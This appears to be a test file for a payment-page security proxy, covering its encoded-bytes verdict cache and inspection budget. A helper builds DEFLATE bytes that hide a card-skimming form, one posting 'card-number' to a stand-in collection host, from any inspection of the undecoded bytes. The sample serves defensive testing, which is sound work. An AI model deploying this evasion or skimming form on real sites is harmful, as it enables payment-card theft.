/**
 * The proxy's hot-path shortcuts keep their security (issue 7, docs/bench.md): the verdict cache
 * keyed on the encoded bytes never lends a verdict across content codings, and the inspection
 * budget admits in order, lets admitted pages finish, and refuses (never skips) past its wait.
 * Real HTTP on 127.0.0.1 for the first; the budget is exercised directly with real timers.
 */
import { gzipSync } from 'node:zlib';
import { request } from 'undici';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { VerifyRefusal } from '../../src/errors.js';
import { InspectionBudget, type InspectionTicket } from '../../src/proxy/document/budget.js';
import { startStorefront, type PageSpec, type Storefront } from '../helpers/upstreams.js';
import { withoutGuard } from '../helpers/navigation-guard.js';
import { NAVIGATION, page, startHarness, type Harness } from './support.js';

const CLEAN = page('clean-checkout.html');
const FAKE_FORM = page('fake-payment-form.html');
const HTML = [['content-type', 'text/html; charset=utf-8']] as const;
const GZIP_HTML = [...HTML, ['content-encoding', 'gzip']] as const;
const ACCEPT_GZIP = { ...NAVIGATION, 'accept-encoding': 'gzip' };

describe('verdict cache keyed on the encoded bytes', () => {
  let storefront: Storefront;
  let harness: Harness;
  beforeAll(async () => {
    storefront = await startStorefront();
    harness = await startHarness(storefront);
  });
  afterAll(async () => {
    await harness.stop();
    await storefront.close();
  });

  async function statusOf(path: string, spec: PageSpec): Promise<number> {
    storefront.page(path, spec);
    const res = await request(`${harness.payguard.publicUrl}${path}`, { headers: ACCEPT_GZIP });
    await res.body.arrayBuffer();
    return res.statusCode;
  }

  it('never lends the verdict of bytes sent as identity to the same bytes sent deflate-coded', async () => {
    const bytes = storedDeflateSplittingTheFormTag();
    const html = [['content-type', 'text/html; charset=windows-1252']] as const;
    // As identity, the block header between "<fo" and "rm" makes an unknown element: a clean page.
    expect(await statusOf('/checkout/coding-swap', { headers: html, body: bytes })).toBe(200);
    // Decoded, the same bytes are a form posting card data to a foreign host.
    expect(await statusOf('/checkout/coding-swap', { headers: [...html, ['content-encoding', 'deflate']], body: bytes })).toBe(502);
  });

  it('a cached gzip page goes out as the same decoded bytes with the guard on every hit, and a changed page never as an earlier build', async () => {
    async function served(path: string, body: Buffer): Promise<{ encoding: string | undefined; bytes: Buffer }> {
      storefront.page(path, { headers: GZIP_HTML, body });
      const res = await request(`${harness.payguard.publicUrl}${path}`, { headers: ACCEPT_GZIP });
      expect(res.statusCode).toBe(200);
      return { encoding: res.headers['content-encoding'] as string | undefined, bytes: Buffer.from(await res.body.arrayBuffer()) };
    }
    // /guarded/** is a block route with the second layer on (/checkout/** has csp: off here), so the guard goes in.
    const first = await served('/guarded/served-cache', gzipSync(CLEAN));
    expect(first.encoding).toBeUndefined();
    expect(withoutGuard(first.bytes)).toEqual(CLEAN);
    // The second and third are verification-cache hits: the first hit builds, the next reuses.
    for (let i = 0; i < 2; i++) expect((await served('/guarded/served-cache', gzipSync(CLEAN))).bytes).toEqual(first.bytes);
    // Another clean rendering at the same URL (one character changed), twice: its own bytes each time.
    const changed = Buffer.from(CLEAN.toString('latin1').replace('</h1>', '!</h1>'), 'latin1');
    expect(changed).not.toEqual(CLEAN);
    for (let i = 0; i < 3; i++) expect(withoutGuard((await served('/guarded/served-cache', gzipSync(changed))).bytes)).toEqual(changed);
    // The same bytes at another URL are another verification, and another build.
    expect(withoutGuard((await served('/guarded/served-cache-2', gzipSync(CLEAN))).bytes)).toEqual(CLEAN);
    expect(withoutGuard((await served('/guarded/served-cache', gzipSync(CLEAN))).bytes)).toEqual(CLEAN);
  });

  it('serves a repeated gzip page from the cache and still blocks it once one encoded byte changes', async () => {
    const clean = gzipSync(CLEAN);
    for (let i = 0; i < 3; i++) expect(await statusOf('/checkout/gzip-cached', { headers: GZIP_HTML, body: clean })).toBe(200);
    expect(await statusOf('/checkout/gzip-cached', { headers: GZIP_HTML, body: gzipSync(FAKE_FORM) })).toBe(502);
    expect(await statusOf('/checkout/gzip-cached', { headers: GZIP_HTML, body: clean })).toBe(200);
  });
});

/**
 * Raw DEFLATE (RFC 1951 §3.2.4) made of two stored blocks, with the second block's 5-byte header
 * falling inside `<form`. Every header byte is printable in windows-1252: the first byte of a
 * stored block carries 3 header bits and 5 padding bits the decoder skips (0x20 and 0x21 here),
 * and each length is 0x2020 (bytes "  ", complement "ßß").
 */
function storedDeflateSplittingTheFormTag(): Buffer {
  const LENGTH = 0x2020;
  const block = (final: boolean, text: string): Buffer => {
    const data = Buffer.from(text.padEnd(LENGTH, ' '), 'latin1');
    const header = Buffer.from([final ? 0x21 : 0x20, LENGTH & 0xff, LENGTH >> 8, ~LENGTH & 0xff, (~LENGTH >> 8) & 0xff]);
    return Buffer.concat([header, data]);
  };
  const first = '<!DOCTYPE html><html><head><title>Checkout</title></head><body><!-- order summary -->'.padEnd(LENGTH - 3, ' ') + '<fo';
  // The host is one the policy names for scripts only: as a carried URL in the identity reading it is
  // no unlisted destination (issue 17 class 4), as a form action it is a foreign one.
  const second = 'rm action="https://cdn.shop.example/collect" method="post"><input name="card-number"><button>Pay</button></form></body></html>';
  return Buffer.concat([block(false, first), block(true, second)]);
}

describe('inspection budget', () => {
  const KB = 1024;
  const never = new AbortController().signal;

  it('admits while under budget, then first come first served as held bytes are released', async () => {
    // 256 KiB: four pages at the 64 KiB reservation.
    const budget = new InspectionBudget(256 * KB, 60_000);
    const first = await Promise.all([1, 2, 3, 4].map(() => budget.admit(never)));
    const order: number[] = [];
    const waiting = [5, 6].map((n) => budget.admit(never).then((t) => (order.push(n), t)));
    await new Promise((resolve) => setImmediate(resolve));
    expect(budget.waiting).toBe(2);
    first[0]!.release();
    const fifth = await waiting[0]!;
    expect(order).toEqual([5]);
    first[1]!.release();
    const sixth = await waiting[1]!;
    expect(order).toEqual([5, 6]);
    for (const t of [...first.slice(2), fifth, sixth]) t.release();
    expect(budget.heldBytes).toBe(0);
  });

  it('counts what a page really holds, and always admits one page larger than the whole budget', async () => {
    const budget = new InspectionBudget(128 * KB, 60_000);
    const big = await budget.admit(never);
    big.hold(4 * 1024 * KB);
    expect(budget.heldBytes).toBe(4 * 1024 * KB);
    const next = budget.admit(never);
    await new Promise((resolve) => setImmediate(resolve));
    expect(budget.waiting).toBe(1);
    big.release();
    const admitted: InspectionTicket = await next;
    admitted.release();
    admitted.release();
    expect(budget.heldBytes).toBe(0);
  });

  it('refuses with inspection-timeout past the wait limit rather than letting a page through unheld', async () => {
    const budget = new InspectionBudget(64 * KB, 50);
    const holder = await budget.admit(never);
    await expect(budget.admit(never)).rejects.toSatisfy((err) => err instanceof VerifyRefusal && err.reason === 'inspection-timeout');
    expect(budget.waiting).toBe(0);
    holder.release();
  });

  it('forgets a waiter whose client went away', async () => {
    const budget = new InspectionBudget(64 * KB, 60_000);
    const holder = await budget.admit(never);
    const client = new AbortController();
    const waiter = budget.admit(client.signal);
    client.abort();
    await expect(waiter).rejects.toBeDefined();
    expect(budget.waiting).toBe(0);
    holder.release();
    expect(budget.heldBytes).toBe(0);
  });
});
